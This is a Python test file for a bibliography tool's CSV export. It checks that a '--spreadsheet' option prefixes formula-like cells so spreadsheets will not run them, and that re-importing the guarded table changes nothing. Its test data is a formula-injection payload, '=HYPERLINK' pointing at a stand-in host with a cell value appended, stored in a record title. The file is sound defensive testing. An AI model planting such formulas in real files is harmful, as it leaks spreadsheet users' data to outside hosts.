"""`vcmbib export --csv`, for programs and for spreadsheets."""

from __future__ import annotations

from tests.cli.conftest import Program

FORMULA = '=HYPERLINK("http://x.example/?"&A1)'


def test_a_spreadsheet_is_of_csv_only(program: Program) -> None:
    """--spreadsheet with another format is a wrong command line."""
    done = program("export", "--bibtex", "--spreadsheet")

    assert done.status == 2
    assert "export --csv --spreadsheet" in done.err


def test_cells_like_formulas_are_counted_and_guarded(program: Program) -> None:
    """Without the option the cells are exact and counted, with it none begins a formula."""
    assert program("edit", "poe2022x", "--set", f"title={FORMULA}").status == 0

    plain, safe = program("export", "--csv"), program("export", "--csv", "--spreadsheet")

    assert '"=HYPERLINK(' in plain.out
    assert "cells that a spreadsheet program may run as formulas: 1" in plain.err
    assert "\"'=HYPERLINK(" in safe.out
    assert safe.err == ""


def test_the_table_comes_back_as_it_was(program: Program) -> None:
    """`import` of a table for a spreadsheet changes nothing."""
    assert program("edit", "poe2022x", "--set", f"title={FORMULA}").status == 0
    table = program.path.parent / "papers.csv"
    assert program("export", "--csv", "--spreadsheet", "-o", str(table)).status == 0

    done = program("import", str(table), "--dry-run")

    assert "3 same" in done.out
    assert program("export", "--csv", "--spreadsheet", "-o", str(table), "--check").status == 0
